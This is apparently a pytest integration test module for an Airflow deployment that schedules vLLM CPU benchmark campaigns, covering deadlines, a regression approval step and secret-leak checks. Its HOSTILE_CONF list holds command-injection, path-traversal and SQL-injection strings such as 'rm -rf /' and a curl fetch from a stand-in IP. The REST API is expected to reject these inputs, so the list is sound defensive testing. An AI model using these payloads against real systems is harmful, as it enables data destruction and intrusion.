"""Version campaigns through a real Airflow: scheduler, dag processor and API server started here on
SQLite and 127.0.0.1, the LocalExecutor, and vLLM CPU in local mode on the tiny model.

A REST request with a partition key and an asset event with a partition key each produce a campaign
run for that version that measures it; a repeated event for the same version produces a run that
measures nothing (the lake already holds it), and the version backfill does not even request it.

A campaign run that outlives its deadline (an Airflow deadline alert from the campaign's estimated
duration: `accelbench.airflow.deadline`) is flagged missed in what the UI reads, and the triggerer runs its
callback. A regression the gate finds waits in the approval step (the standard provider's
human-in-the-loop operator) until an owner answers through REST: accepted with a reason, the next campaign
of the version does not ask again and the report shows the answer; rejected, the run fails with the
reason and the next campaign skips the version.

The same deployment checks two security points: every process runs with known fake secrets in its
environment (HF token, AWS keys) and none of them may appear in any file the campaigns leave (task logs,
the metadata DB with its XComs, the catalog, the lake, the work directories); and the REST API refuses
hostile trigger inputs before any run exists.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pyarrow as pa
import pytest
from accelbench.lake.store import Lake
from cryptography.fernet import Fernet

from tests.support import fork_server
from tests.support.airflow_metadata import migrated
from tests.support.paths import DAG_IDS, DAGS
from tests.support.servers import free_port

pytestmark = [pytest.mark.airflow, pytest.mark.vllm]
CAMPAIGN = "accelbench_cpu_version_campaign"
DEADLINE_CAMPAIGN = "accelbench_campaign"
# Known fake secrets in every Airflow process's environment: not one byte of them may land anywhere.
FAKE_SECRETS = {
    "HF_TOKEN": "hf_FAKEtokenQx7Rv2mZp9LkW4sNd8TjYb3",
    "HUGGING_FACE_HUB_TOKEN": "hf_FAKEhubTokenK2cV8nB5xM1qW7eR4tY",
    "AWS_ACCESS_KEY_ID": "AKIAFAKEKEY7Q2W3E4R5",
    "AWS_SECRET_ACCESS_KEY": "FAKEsecretKey/9xT2vB7nM4kL1pQ8wE5rT3yU6iO0aS",
    "AWS_SESSION_TOKEN": "FAKEsessionTokenZ8x7C6v5B4n3M2q1W0e9R8t7Y6u5I4o3P2",
}
RELEASES_ASSET = "accelbench.runtime.vllm_cpu_releases"


@dataclass
class Airflow:
    url: str
    home: Path
    accelbench_home: Path
    logs: Path
    campaign_run: str = ""  # the accelbench_campaign run the deadline test checks, started beside the others

    def api(self, method: str, path: str, **kw: Any) -> Any:
        response = httpx.request(method, f"{self.url}/api/v2{path}", timeout=30, **kw)
        assert response.status_code < 300, (method, path, response.status_code, response.text)
        return response.json()

    def ui(self, method: str, path: str, **kw: Any) -> Any:
        """The private API the UI's pages read (/ui), e.g. a run's deadlines."""
        response = httpx.request(method, f"{self.url}/ui{path}", timeout=30, **kw)
        assert response.status_code < 300, (method, path, response.status_code, response.text)
        return response.json()

    def runs(self, dag_id: str) -> list[dict[str, Any]]:
        return self.api("GET", f"/dags/{dag_id}/dagRuns", params={"order_by": "run_after"})["dag_runs"]

    def wait(self, what: str, ready: Callable[[], Any], timeout: float = 600) -> Any:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            value = ready()
            if value:
                return value
            time.sleep(2)
        tails = {p.name: p.read_text()[-3000:] for p in self.logs.glob("*.log")}
        raise AssertionError(f"timed out waiting for {what}; process logs:\n{json.dumps(tails, indent=1)}")

    def finished(self, dag_id: str, count: int) -> list[dict[str, Any]]:
        """Wait until `dag_id` has `count` runs, all finished; returns them, oldest first."""

        def done() -> list[dict[str, Any]] | None:
            runs = self.runs(dag_id)
            return (
                runs
                if len(runs) >= count and all(r["state"] in ("success", "failed") for r in runs)
                else None
            )

        return self.wait(f"{count} finished runs of {dag_id}", done)

    def states(self, dag_id: str, run_id: str) -> dict[str, str]:
        tis = self.api("GET", f"/dags/{dag_id}/dagRuns/{run_id}/taskInstances")["task_instances"]
        return {ti["task_id"]: ti["state"] for ti in tis}


def _matrix(tiny_model: Path) -> dict[str, Any]:
    return {
        "instance_types": ["m8g.xlarge"],
        "model": str(tiny_model),
        "concurrency": [1],
        "repeats": 1,
        "prompts_per_level": 4,
        "input_len": 32,
        "output_len": 8,
        "extra_engine_args": ["--enforce-eager"],
    }


@pytest.fixture(scope="module")
def airflow(
    tiny_model: Path, vllm_python: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Airflow]:
    home = tmp_path_factory.mktemp("scheduling")
    logs = home / "process-logs"
    logs.mkdir()
    port = free_port()
    accelbench_home = home / "accelbench"
    env = {k: v for k, v in os.environ.items() if not k.startswith(("AIRFLOW__", "ACCELBENCH_"))} | {
        "AIRFLOW_HOME": str(home / "airflow"),
        "AIRFLOW__DATABASE__SQL_ALCHEMY_CONN": f"sqlite:///{home / 'airflow' / 'airflow.db'}",
        "AIRFLOW__CORE__EXECUTOR": "LocalExecutor",
        # One key for the four processes: with the metadata database copied from another lane's template, no
        # airflow.cfg is here when they start, each writes one, and a triggerer that read it half-written
        # decrypted the deadline's trigger with no key (JSONDecodeError: the callback never ran, once in CI).
        "AIRFLOW__CORE__FERNET_KEY": Fernet.generate_key().decode(),
        "AIRFLOW__CORE__PARALLELISM": "2",
        "AIRFLOW__CORE__DAGS_FOLDER": str(DAGS),
        "AIRFLOW__CORE__LOAD_EXAMPLES": "False",
        "AIRFLOW__CORE__DAGS_ARE_PAUSED_AT_CREATION": "True",  # only the DAGs under test are unpaused
        "AIRFLOW__CORE__SIMPLE_AUTH_MANAGER_ALL_ADMINS": "True",
        "AIRFLOW__CORE__EXECUTION_API_SERVER_URL": f"http://127.0.0.1:{port}/execution/",
        "AIRFLOW__API__BASE_URL": f"http://127.0.0.1:{port}",
        "AIRFLOW__API__PORT": str(port),
        "AIRFLOW__API_AUTH__JWT_SECRET": "s" * 64,
        # The DAG files are parsed once: nothing edits them during the module, and a parse of them all every
        # few seconds took CPU from the campaigns (and the other lanes) for the module's whole length.
        "AIRFLOW__DAG_PROCESSOR__REFRESH_INTERVAL": "3600",
        "AIRFLOW__DAG_PROCESSOR__MIN_FILE_PROCESS_INTERVAL": "3600",
        "AIRFLOW__SCHEDULER__SCHEDULER_HEARTBEAT_SEC": "2",
        **FAKE_SECRETS,
        # The campaign deadline's stated figures: a campaign of a few requests is late within a second.
        "ACCELBENCH_STARTUP_ALLOWANCE_S": "0",
        "ACCELBENCH_STATED_REQUESTS_PER_S": "1000",
        "ACCELBENCH_HOME": str(accelbench_home),
        "ACCELBENCH_OFFLINE": "1",
        "ACCELBENCH_REGISTRY_URL": "http://127.0.0.1:9",  # never the real registry
        "ACCELBENCH_EXECUTION_MODE": "local",
        "ACCELBENCH_VLLM_PYTHON": str(vllm_python),
        "ACCELBENCH_VERSION_MATRIX": json.dumps(_matrix(tiny_model)),
        **fork_server.inherited(),
    }
    airflow_bin = [sys.executable, "-m", "airflow"]
    migrated(home / "airflow" / "airflow.db", env)  # `airflow db migrate`'s database, made once per run
    procs = []
    for name, args in (
        ("api-server", ["api-server", "--host", "127.0.0.1", "--port", str(port), "-w", "1"]),
        ("scheduler", ["scheduler", "--skip-serve-logs"]),
        ("dag-processor", ["dag-processor"]),
        ("triggerer", ["triggerer", "--skip-serve-logs"]),  # runs the missed deadline's callback
    ):
        out = (logs / f"{name}.log").open("w")
        procs.append(
            (
                subprocess.Popen(
                    [*airflow_bin, *args],
                    env=env,
                    stdout=out,
                    stderr=subprocess.STDOUT,
                    start_new_session=True,
                ),
                out,
            )
        )
    af = Airflow(f"http://127.0.0.1:{port}", home / "airflow", accelbench_home, logs)
    try:

        def healthy() -> bool:
            try:
                return httpx.get(f"{af.url}/api/v2/monitor/health", timeout=2).status_code == 200
            except httpx.HTTPError:
                return False

        af.wait("the API server", healthy, timeout=180)
        # The catalog first (seeded by its own DAG, through the scheduler like everything else).
        # Every DAG file's DAG, not a count: the processor lists them as it parses them (a count of 9 of 11
        # once let the version campaign's PATCH below find no DAG, in a clean-clone CI run).
        af.wait("the DAGs to be parsed", lambda: _dag_ids(af) >= DAG_IDS, timeout=240)
        for dag_id in ("accelbench_instance_catalog", CAMPAIGN, "accelbench_cpu_version_backfill"):
            af.api("PATCH", f"/dags/{dag_id}", json={"is_paused": False})
        # Unpaused, the weekly DAG (no catch-up) runs its latest interval at once: that run seeds it.
        for run in af.finished("accelbench_instance_catalog", 1):
            assert run["state"] == "success", af.states("accelbench_instance_catalog", run["dag_run_id"])
        # The deadline test's campaign runs beside the version campaigns (the executor runs two tasks at a
        # time): its server's start overlaps theirs instead of adding to the module's time.
        af.api("PATCH", f"/dags/{DEADLINE_CAMPAIGN}", json={"is_paused": False})
        conf = _matrix(tiny_model) | {"execution_mode": "local"}
        body = {"logical_date": None, "conf": conf}
        af.campaign_run = af.api("POST", f"/dags/{DEADLINE_CAMPAIGN}/dagRuns", json=body)["dag_run_id"]
        yield af
    finally:
        for proc, _ in procs:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(proc.pid, signal.SIGTERM)
        for proc, out in procs:
            try:  # nothing here tests a graceful stop: a process still there after 10 s is killed
                proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                os.killpg(proc.pid, signal.SIGKILL)
            out.close()


def _dag_ids(airflow: Airflow) -> set[str]:
    return {d["dag_id"] for d in airflow.api("GET", "/dags", params={"limit": 100})["dags"]}


def _server_starts(accelbench_home: Path) -> int:
    """The version campaigns' server starts (the deadline test's campaign has its own)."""
    work = accelbench_home / "work"
    return sum(len(p.read_text().splitlines()) for p in work.glob(f"{CAMPAIGN}.*/server-starts.jsonl"))


def test_partition_keys_from_rest_and_asset_events_run_one_campaign_per_version(airflow: Airflow) -> None:
    from accelbench.local.server import local_vllm_version

    version = local_vllm_version()  # local mode serves its own vLLM: that is the version to request
    lake = Lake(str(airflow.accelbench_home / "lake"))

    # 1. REST: trigger the version campaign with a partition key.
    airflow.api("POST", f"/dags/{CAMPAIGN}/dagRuns", json={"logical_date": None, "partition_key": version})
    (first,) = airflow.finished(CAMPAIGN, 1)
    assert first["state"] == "success", airflow.states(CAMPAIGN, first["dag_run_id"])
    assert first["partition_key"] == version
    runs = [r for r in lake.read("runs").to_pylist() if r["dag_run_id"] != airflow.campaign_run]
    assert [(r["vllm_version"], r["status"], r["dag_run_id"]) for r in runs] == [
        (version, "ok", first["dag_run_id"])
    ]
    assert _server_starts(airflow.accelbench_home) == 1

    # 2. An asset event with the partition key (forced: the lake already holds this version).
    (asset,) = airflow.api("GET", "/assets", params={"name_pattern": RELEASES_ASSET})["assets"]
    airflow.api(
        "POST",
        "/assets/events",
        json={"asset_id": asset["id"], "partition_key": version, "extra": {"force": True}},
    )
    second = airflow.finished(CAMPAIGN, 2)[-1]
    assert (
        second["state"] == "success"
        and second["partition_key"] == version
        and second["run_type"] == "asset_triggered"
    )
    assert airflow.states(CAMPAIGN, second["dag_run_id"])["benchmark"] == "success"
    assert _server_starts(airflow.accelbench_home) == 2

    # 3. The same version again without force: a run, but nothing measured twice.
    airflow.api("POST", "/assets/events", json={"asset_id": asset["id"], "partition_key": version})
    third = airflow.finished(CAMPAIGN, 3)[-1]
    states = airflow.states(CAMPAIGN, third["dag_run_id"])
    assert third["state"] == "success" and states["plan"] == "skipped" and states["benchmark"] == "skipped", (
        states
    )
    assert _server_starts(airflow.accelbench_home) == 2

    # 4. The version backfill does not even request it.
    airflow.api(
        "POST",
        "/dags/accelbench_cpu_version_backfill/dagRuns",
        json={"logical_date": None, "conf": {"versions": [version]}},
    )
    (backfill,) = airflow.finished("accelbench_cpu_version_backfill", 1)
    assert airflow.states("accelbench_cpu_version_backfill", backfill["dag_run_id"]) == {
        "request_campaigns": "skipped"
    }
    time.sleep(5)  # give the scheduler (a heartbeat every 2 s) a chance to (wrongly) create a run
    assert len(airflow.runs(CAMPAIGN)) == 3 and _server_starts(airflow.accelbench_home) == 2


HOSTILE_CONF = [
    ("model", "org/model; rm -rf /"),
    ("model", "$(curl http://198.51.100.7/x)"),
    ("model", "../../etc/passwd"),
    ("model", "org/model\n--trust-remote-code"),
    ("extra_engine_args", ["--enforce-eager; id"]),
    ("extra_engine_args", ["--served-model-name=x`id`"]),
    ("extra_engine_args", ["--enforce-eager --trust-remote-code"]),
    ("extra_engine_args", ["--chat-template={{ x }}"]),
    ("versions", {"cpu": "0.32.0 && id"}),
    ("instance_types", ["m8g.xlarge'; DROP TABLE instance_types;--"]),
    ("concurrency", ["1; id"]),
    ("execution_mode", "kubernetes\nprivileged: true"),
]


def test_rest_refuses_hostile_trigger_inputs_before_a_run_exists(airflow: Airflow) -> None:
    """What the trigger form posts is validated by the same Param schemas: 400 naming the param. (After the
    deployment's own campaign run ended: SQLite takes one writer at a time, and a request beside that run's
    tasks once got a 500 "Database error" from the API server, when this test ran first.)"""
    _campaign_run_done(airflow)
    dag_id = "accelbench_campaign"
    before = len(airflow.runs(dag_id))
    for field, value in HOSTILE_CONF:
        response = httpx.post(
            f"{airflow.url}/api/v2/dags/{dag_id}/dagRuns",
            json={"logical_date": None, "conf": {field: value}},
            timeout=30,
        )
        assert response.status_code == 400, (field, value, response.status_code, response.text)
        assert field in response.text, (field, response.text)
    assert len(airflow.runs(dag_id)) == before


def test_a_campaign_past_its_deadline_is_flagged_where_the_ui_reads_it(airflow: Airflow) -> None:
    """The stated figures of this deployment (no start-up, 1000 req/s) put the deadline of a campaign of 12
    requests 24 ms after its queueing; its server takes seconds to start: the deadline is missed, and the
    run still succeeds (a deadline only flags)."""
    dag_id, run_id = DEADLINE_CAMPAIGN, airflow.campaign_run  # started with the deployment
    done = _campaign_run_done(airflow)
    assert done["state"] == "success", airflow.states(dag_id, run_id)
    assert airflow.states(dag_id, run_id)["benchmark"] == "success"
    (deadline,) = airflow.ui("GET", f"/dags/{dag_id}/dagRuns/{run_id}/deadlines")["deadlines"]
    queued = datetime.fromisoformat(done["queued_at"])
    # 12 requests (4 warm-ups, 4 level warm-ups, 4 prompts) at 1000 req/s, twice (the default factor): 24 ms.
    assert datetime.fromisoformat(deadline["deadline_time"]) - queued == timedelta(seconds=0.024)
    assert deadline["missed"] is True and deadline["alert_name"] == "campaign estimate"
    triggerer = airflow.logs / "triggerer.log"
    airflow.wait(
        "the deadline's callback", lambda: "missed its deadline" in triggerer.read_text(), timeout=60
    )


def _run(airflow: Airflow, dag_id: str, run_id: str) -> dict[str, Any]:
    return airflow.api("GET", f"/dags/{dag_id}/dagRuns/{run_id}")


def _campaign_run_done(airflow: Airflow) -> dict[str, Any]:
    """The campaign run the deployment started (the deadline test's), once it ended."""
    run_id = airflow.campaign_run
    return airflow.wait(
        "the campaign run", lambda: (r := _run(airflow, DEADLINE_CAMPAIGN, run_id))["end_date"] and r
    )


# How much faster the seeded baseline is: the gate compares it with the two measured runs of four requests,
# whose spread beside the other lanes was once wide enough (output tokens/s -92% [-100%, +796%], q = 0.37) to
# leave a 20x faster baseline undecided, and no question asked; at 1000x that interval would end near -80%.
FASTER = 1000.0


def _seed_baseline(
    airflow: Airflow, tiny_model: Path, measured: str, baseline: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Copies of the lake's runs of `measured` and their requests as a `baseline` version FASTER times faster
    (latencies / FASTER, throughputs x FASTER), keyed as the matrix planned at `baseline`, which the gate
    compares."""
    from accelbench.airflow.dag_defaults import version_matrix
    from accelbench.campaign.matrix import matrix_keys
    from accelbench.campaign.plan import parse_request
    from accelbench.lake.schemas import REQUESTS, RUNS

    from tests.support.planning import CATALOG

    monkeypatch.setenv("ACCELBENCH_VERSION_MATRIX", json.dumps(_matrix(tiny_model)))
    matrix = parse_request(version_matrix())
    keys = matrix_keys(matrix, CATALOG, [measured, baseline]).keys
    lake = Lake(str(airflow.accelbench_home / "lake"))
    runs = [
        r
        for r in lake.read("runs").to_pylist()
        if r["vllm_version"] == measured and r["status"] == "ok" and r["dag_run_id"] != airflow.campaign_run
    ]
    assert runs and {r["matrix_key"] for r in runs} < keys  # the lake's key is the matrix's at `measured`
    (key,) = keys - {r["matrix_key"] for r in runs}
    faster = {
        **{c: 1 / FASTER for c in RUNS.names if c.endswith("_ms") and not c.startswith("slo_")},
        **{c: FASTER for c in RUNS.names if c.endswith(("_throughput", "_goodput"))},
    }
    copies = [
        r
        | {k: r[k] * f for k, f in faster.items() if r.get(k) is not None}
        | {"vllm_version": baseline, "matrix_key": key, "run_id": f"{r['run_id']}-as-{baseline}"}
        for r in runs
    ]
    ids = {r["run_id"] for r in runs}
    requests = [
        q
        | {k: q[k] / FASTER for k in REQUESTS.names if k.endswith("_s") and q.get(k) is not None}
        | {"run_id": f"{q['run_id']}-as-{baseline}"}
        for q in lake.read("requests").to_pylist()
        if q["run_id"] in ids
    ]
    assert len(requests) >= 4 * len(runs)
    stem = f"baseline-{baseline}"
    lake.write_table("runs", pa.Table.from_pylist(copies, schema=RUNS), "cpu", "2026-12-01", stem)
    lake.write_table("requests", pa.Table.from_pylist(requests, schema=REQUESTS), "cpu", "2026-12-01", stem)


def _gate_run(airflow: Airflow, version: str, count: int) -> str:
    """An asset event for `version` (not forced: nothing is measured again), and the run it makes."""
    (asset,) = airflow.api("GET", "/assets", params={"name_pattern": RELEASES_ASSET})["assets"]
    airflow.api("POST", "/assets/events", json={"asset_id": asset["id"], "partition_key": version})
    return airflow.wait(
        f"run {count} of {CAMPAIGN}", lambda: len(runs := airflow.runs(CAMPAIGN)) >= count and runs
    )[count - 1]["dag_run_id"]


def _paused(airflow: Airflow, run_id: str) -> bool:
    """Whether the scheduler has taken the executor's event of the approval task's paused process (its log
    says so): only then may an answer queue the task again (see _answer)."""
    key = f"task_id='approve_regressions', run_id='{run_id}'"
    log = (airflow.logs / "scheduler.log").read_text(errors="replace")
    return any("Received executor event" in line and key in line for line in log.splitlines())


def _answer(airflow: Airflow, run_id: str, option: str, reason: str) -> dict[str, Any]:
    path = f"/dags/{CAMPAIGN}/dagRuns/{run_id}/taskInstances/approve_regressions/-1/hitlDetails"

    def asked() -> dict[str, Any] | None:
        response = httpx.get(f"{airflow.url}/api/v2{path}", timeout=30)
        return response.json() if response.status_code == 200 else None

    question = airflow.wait("the approval step's question", asked, timeout=300)
    assert (
        question["options"] == ["Accept as known", "Reject the version"] and not question["response_received"]
    )
    # The body names what regressed, with its change. Which of the changes the gate can decide depends on the
    # spread of the two measured runs of four requests (a 20x faster baseline, seen with three lanes on two
    # CPUs: output tokens/s flagged, p99 TTFT undecided at q = 0.06): the gate's statistics are
    # tests/e2e/test_regression_gate.py's.
    assert "regression" in question["subject"] and re.search(
        r"(p99 \w+|tokens/s) -?\+?\d+%", question["body"]
    ), question
    assert airflow.states(CAMPAIGN, run_id)["approve_regressions"] == "awaiting_input"
    # Airflow 3.3.2 fails a human-in-the-loop task answered before the scheduler has taken the executor's
    # event of its paused process: the answer queues the task again, the event then reads "finished with
    # state success, but the task instance's state attribute is queued", and the task is failed (seen in
    # clean-clone CI runs, 0.5 s and 5 s after the question, the scheduler's loop slowed by the other lanes).
    # An owner answers minutes later; the test answers once the scheduler's log shows the event.
    airflow.wait("the scheduler to take the paused task's event", lambda: _paused(airflow, run_id), 120)
    return airflow.api("PATCH", path, json={"chosen_options": [option], "params_input": {"reason": reason}})


def _finished(airflow: Airflow, run_id: str) -> dict[str, Any]:
    return airflow.wait("the run to finish", lambda: (r := _run(airflow, CAMPAIGN, run_id))["end_date"] and r)


def test_an_owner_accepts_or_rejects_a_regression_through_rest(
    airflow: Airflow, tiny_model: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from accelbench.catalog.db import make_engine
    from accelbench.catalog.decisions import decisions
    from accelbench.local.server import local_vllm_version
    from packaging.version import Version

    version = local_vllm_version()
    v = Version(version)
    before, just_before = f"{v.major}.{v.minor - 1}.0", f"{v.major}.{v.minor - 1}.5"
    count = len(airflow.runs(CAMPAIGN))

    # 1. A faster earlier version appears in the lake: the gate finds regressions and asks; accepted.
    _seed_baseline(airflow, tiny_model, version, before, monkeypatch)
    first = _gate_run(airflow, version, count := count + 1)
    responded = _answer(airflow, first, "Accept as known", "known: the tiny model's kernels changed")
    assert responded["chosen_options"] == ["Accept as known"]
    assert _finished(airflow, first)["state"] == "success", airflow.states(CAMPAIGN, first)
    assert airflow.states(CAMPAIGN, first)["record_decision"] == "success"
    engine = make_engine(f"sqlite:///{airflow.accelbench_home / 'catalog.db'}")
    (accepted,) = decisions(engine)
    assert (accepted.version, accepted.decision, accepted.reason) == (
        version,
        "accepted",
        "known: the tiny model's kernels changed",
    )
    assert accepted.regressions and all(f"{before} -> {version}" in k for k in accepted.regressions)

    # 2. The next campaign finds the same regressions: answered, nothing asked, the report shows why.
    second = _gate_run(airflow, version, count := count + 1)
    assert _finished(airflow, second)["state"] == "success"
    states = airflow.states(CAMPAIGN, second)
    assert states["regression_gate"] == "success" and states["approve_regressions"] == "skipped", states
    gate = airflow.api(
        "GET", f"/dags/{CAMPAIGN}/dagRuns/{second}/taskInstances/regression_gate/xcomEntries/return_value"
    )["value"]
    assert gate["regressions"] and "accepted as known" in gate["answer"]
    html = Path(gate["report"].removeprefix("file://")).read_text()
    assert "Regression decisions" in html and "known: the tiny model&#39;s kernels changed" in html

    # 3. A faster version just before it appears: a new comparison, asked again; rejected, the run fails.
    _seed_baseline(airflow, tiny_model, version, just_before, monkeypatch)
    third = _gate_run(airflow, version, count := count + 1)
    _answer(airflow, third, "Reject the version", "20x slower than the version before")
    assert _finished(airflow, third)["state"] == "failed"
    assert airflow.states(CAMPAIGN, third)["record_decision"] == "failed"
    assert [d.decision for d in decisions(engine)] == ["accepted", "rejected"]

    # 4. The next campaign of the rejected version skips it, saying why, and asks nothing.
    fourth = _gate_run(airflow, version, count := count + 1)
    assert _finished(airflow, fourth)["state"] == "success"
    states = airflow.states(CAMPAIGN, fourth)
    assert states["plan"] == "skipped" and states["approve_regressions"] == "skipped", states
    plan_logs = [
        p for p in airflow.home.rglob("*") if f"run_id={fourth}" in str(p) and "task_id=plan" in str(p)
    ]
    assert any(
        "20x slower than the version before: not measured again" in p.read_text()
        for p in plan_logs
        if p.is_file()
    )
    engine.dispose()


def test_no_secret_reaches_logs_xcom_the_catalog_or_the_lake(airflow: Airflow) -> None:
    """Runs last in this module: after the campaigns above, every file they left is searched."""
    assert airflow.runs(CAMPAIGN), "a campaign ran with the fake secrets in its environment"
    roots = (airflow.home, airflow.accelbench_home, airflow.logs)
    files = [p for root in roots for p in root.rglob("*") if p.is_file()]
    task_logs = [p for p in files if "dag_id=" + CAMPAIGN in str(p) and "task_id=benchmark" in str(p)]
    assert task_logs and any("vLLM server healthy" in p.read_text(errors="replace") for p in task_logs)
    assert any(p.name == "airflow.db" for p in files) and any(p.suffix == ".parquet" for p in files)
    assert any(p.name == "server.log" for p in files) and any(p.name == "envelope.json" for p in files)
    leaks = [
        (name, str(path))
        for path in files
        for name, value in FAKE_SECRETS.items()
        if value.encode() in path.read_bytes()
    ]
    assert leaks == [], leaks
